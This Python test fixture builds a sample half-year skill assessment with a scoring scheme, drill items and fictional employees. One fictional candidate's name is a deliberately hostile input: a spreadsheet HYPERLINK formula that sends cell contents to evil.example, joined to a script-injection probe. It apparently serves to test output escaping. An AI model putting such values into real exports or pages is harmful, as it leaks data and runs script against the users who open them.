"""A small assessment made by the real rules: plainly fictional people, one of each standing, one hostile."""

from __future__ import annotations

from dataclasses import replace
from decimal import Decimal

from lianbing.domain.assessment.assessment import Assessment, Candidate
from lianbing.domain.assessment.computing import assess
from lianbing.domain.assessment.marked_items import MarkedItem
from lianbing.domain.assessment.schemes import Level, Scheme
from lianbing.domain.assessment.sources import skill_part
from lianbing.domain.drills.papers import Basis, Employee
from lianbing.domain.items.question import Skill
from lianbing.domain.kernel.periods import Period, Span
from lianbing.domain.ledger.ledger import Cause
from tests.unit.objects import sittings

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")<script>alert(1)</script>'
SCHEME = Scheme(
    id="half-year-skill",
    title="客户经理半年技能考评方案（示例）",
    span=Span.HALF_YEAR,
    parts=(
        skill_part(Skill.KNOWLEDGE, Decimal(40)),
        skill_part(Skill.SYSTEMS, Decimal(20)),
        skill_part(Skill.TOOLS, Decimal(20)),
        skill_part(Skill.ANALYSIS, Decimal(20)),
    ),
    levels=(
        Level(title="优秀", minimum=Decimal(90), part_minimum=Decimal(60)),
        Level(title="良好", minimum=Decimal(80), part_minimum=Decimal(60)),
        Level(title="合格", minimum=Decimal(60), part_minimum=Decimal(0)),
        Level(title="待提高", minimum=Decimal(0), part_minimum=Decimal(0)),
    ),
)
DRILLS = {"2026H2-a": "2026 下半年练兵（一）", "2026H2-b": "2026 下半年练兵（二）"}
ITEMS = (
    ("2026H2-a", "vis-0003", 1, Skill.KNOWLEDGE, "2", ("VIS-02",)),
    ("2026H2-a", "vis-0012", 2, Skill.KNOWLEDGE, "3", ("VIS-04", "VIS-06")),
    ("2026H2-a", "man-0007", 3, Skill.KNOWLEDGE, "2.5", ("MAN-11",)),
    ("2026H2-a", "sys-0002", 4, Skill.SYSTEMS, "5", ("SRV-03",)),
    ("2026H2-b", "tool-0001", 1, Skill.TOOLS, "3", ("K034",)),
    ("2026H2-b", "stock-ratio.1", 2, Skill.ANALYSIS, "4", ("K034", "K035")),
    ("2026H2-b", "stock-ratio.2", 3, Skill.ANALYSIS, "3", ("K035",)),
)
BASIS = {
    "VIS-02": Basis(
        title="每天走访时长", text="每天花在走访上的时间不少于 6 小时，按公司规定的时间下班。", status="重建"
    ),
    "VIS-04": Basis(title="订货前一天上门", text="在客户订货日之前 1 天上门，把货源信息告诉客户。", status="存疑"),
    "VIS-06": Basis(title="每天走访户数", text="每天走访的零售户不少于 30 户。", status="完整"),
    "MAN-11": Basis(title="进门称呼", text="进门先打招呼，称呼得体。", status="完整"),
    "SRV-03": Basis(title="答复时限", text="市场经理对不能立即解答的问题，24 小时内答复。", status="完整"),
    "K034": Basis(title="行业知识", text="可销天数 = 期末库存 ÷ 日均销量，单位天。", status="置信度高"),
    "K035": Basis(
        title="行业知识", text="一个周期里的零售销量推算：上期库存 + 本期到货 − 本期库存。", status="置信度高"
    ),
}


def candidate(number: str, name: str, points: str, first_entry: int, missing: tuple[str, ...] = ()) -> Candidate:
    """A person with one word of ``points`` per item: a number, ``?`` for ungraded, ``x`` for not on a paper."""
    marks: list[MarkedItem] = []
    for (drill, item, place, skill, worth, clauses), got in zip(ITEMS, points.split(), strict=True):
        if got == "x":
            continue
        earned = None if got == "?" else Decimal(got)
        entry = first_entry + len(marks) if got != "?" or number != "C0003" else None
        paper = f"{drill}-{number}"
        marks.append(
            MarkedItem(
                drill=drill,
                paper=paper,
                item=item,
                number=place,
                skill=skill,
                worth=Decimal(worth),
                earned=earned,
                entry=entry,
                clauses=clauses,
            )
        )
    person = Employee(id=number, name=name, team="城区一组" if number < "C0003" else "乡镇组")
    return Candidate(employee=person, marks=tuple(marks), sittings=sittings(marks, missing))


def with_change(assessment: Assessment) -> Assessment:
    """The same with a mark of its first person that somebody changed by hand."""
    first, *others = assessment.results
    mark = replace(first.marks[0], cause=Cause.REVIEWED, before=Decimal(0), reason="意思相同", by="样例复核员")
    return replace(assessment, results=(replace(first, marks=(mark, *first.marks[1:])), *others))


def sample() -> Assessment:
    """The assessment itself."""
    people = (
        candidate("0007", "样例丙", "1 1.5 2.5 4 2 4 1", 15),
        candidate("C0001", "样例甲", "2 3 2.5 5 3 4 2", 1),
        candidate("C0002", HOSTILE, "2 1.5 0 0 3 2 3", 8),
        candidate("C0003", "样例丁", "2 3 2.5 5 3 ? 0", 22),
        candidate("C0004", "样例戊", "x x x x x x x", 0, tuple(DRILLS)),
        candidate("C0005", "样例己", "2 0 2.5 5 x x x", 29, ("2026H2-b",)),
    )
    return Assessment(
        period=Period.parse("2026H2"),
        made_at="2026-12-28T17:05:00+08:00",
        scheme=SCHEME,
        drills=DRILLS,
        results=assess(SCHEME, people),
        basis=BASIS,
        ledger_sequence=32,
        ledger_digest="3f" * 32,
    )
